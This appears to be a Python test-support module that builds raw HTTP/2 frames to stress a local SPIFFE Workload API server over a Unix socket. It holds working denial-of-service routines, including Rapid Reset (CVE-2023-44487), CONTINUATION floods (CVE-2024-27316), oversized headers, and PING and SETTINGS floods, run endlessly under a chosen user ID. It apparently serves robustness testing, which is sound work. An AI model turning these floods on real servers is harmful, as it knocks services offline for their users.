"""HTTP/2 by hand, as no decent client speaks it: RFC 9113 frames without a library.

`python -m tests.support.h2_abuse KIND SOCKET UID` does it without end, as that user, and prints
a JSON line now and then.
"""

from __future__ import annotations

import json
import os
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: str, value: str) -> bytes:
    """A header field without indexing and without Huffman coding (RFC 7541 §6.2.2)."""
    return b"\0" + _text(name) + _text(value)


def _text(text: str) -> bytes:
    raw = text.encode()
    if len(raw) < 127:
        return bytes([len(raw)]) + raw
    rest, digits = len(raw) - 127, bytearray([127])
    while rest >= 128:
        digits.append(rest % 128 + 128)
        rest //= 128
    digits.append(rest)
    return bytes(digits) + raw


def call_headers(path: str, *more: tuple[str, str]) -> bytes:
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost")]
    fields += [("te", "trailers"), ("content-type", "application/grpc"), ("workload.spiffe.io", "true"), *more]
    return b"".join(literal(name, value) for name, value in fields)


FETCH = call_headers("/SpiffeWorkloadAPI/FetchX509SVID")
EMPTY = b"\0\0\0\0\0"
"""A gRPC message of no bytes."""


def rapid_reset() -> Iterator[bytes]:
    """Streams that are given up as soon as they are asked for (CVE-2023-44487)."""
    for stream in range(1, 20001, 2):
        yield frame(HEADERS, END_HEADERS, stream, FETCH) + frame(DATA, END_STREAM, stream, EMPTY)
        yield frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def huge_headers() -> Iterator[bytes]:
    """One field of 2 MiB."""
    block = call_headers("/SpiffeWorkloadAPI/FetchX509SVID", ("x-huge", "a" * (2 << 20)))
    yield frame(HEADERS, END_STREAM, 1, block[:16384])
    for start in range(16384, len(block), 16384):
        last = start + 16384 >= len(block)
        yield frame(CONTINUATION, END_HEADERS if last else 0, 1, block[start : start + 16384])


def continuation_flood() -> Iterator[bytes]:
    """Headers that never end (CVE-2024-27316)."""
    yield frame(HEADERS, END_STREAM, 1, FETCH)
    for number in range(20000):
        yield frame(CONTINUATION, 0, 1, literal(f"x-{number}", "b" * 200))


def ping_flood() -> Iterator[bytes]:
    for number in range(50000):
        yield frame(PING, 0, 0, struct.pack(">Q", number))


def settings_flood() -> Iterator[bytes]:
    for _ in range(50000):
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))


def empty_frames() -> Iterator[bytes]:
    """Data frames of nothing on an open stream."""
    yield frame(HEADERS, END_HEADERS, 1, FETCH)
    for _ in range(50000):
        yield frame(DATA, 0, 1)


def never_reads() -> Iterator[bytes]:
    """Streams whose answers find no room: the window is 0 and nothing is read."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    for stream in range(1, 2001, 2):
        yield frame(HEADERS, END_HEADERS, stream, FETCH) + frame(DATA, END_STREAM, stream, EMPTY)


ABUSES: dict[str, Callable[[], Iterator[bytes]]] = {
    kind.__name__: kind
    for kind in (
        rapid_reset,
        huge_headers,
        continuation_flood,
        ping_flood,
        settings_flood,
        empty_frames,
        never_reads,
    )
}


def abuse(path: Path, kind: str, *, seconds: float = 3.0) -> int:
    """Do it on one connection, and on another whenever that is ended, for so long; how many connections it took."""
    deadline, connections = time.monotonic() + seconds, 0
    while time.monotonic() < deadline:
        with socket.socket(socket.AF_UNIX) as sock:
            sock.settimeout(1)
            try:
                sock.connect(str(path))
                connections += 1
                sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
                for piece in ABUSES[kind]():
                    sock.sendall(piece)
                    if time.monotonic() > deadline:
                        break
                if kind == "never_reads":
                    time.sleep(max(0.0, deadline - time.monotonic()))
            except OSError:  # sent away, or not listened to any more
                continue
    return connections


def become(user: int) -> None:
    """Only once everything is imported: another user may not be able to read this Python."""
    if user != os.getuid():
        os.setgroups([])
        os.setgid(user)
        os.setuid(user)


if __name__ == "__main__":
    become(int(sys.argv[3]))
    while True:
        sys.stdout.write(json.dumps({"connections": abuse(Path(sys.argv[2]), sys.argv[1], seconds=0.5)}) + "\n")
        sys.stdout.flush()
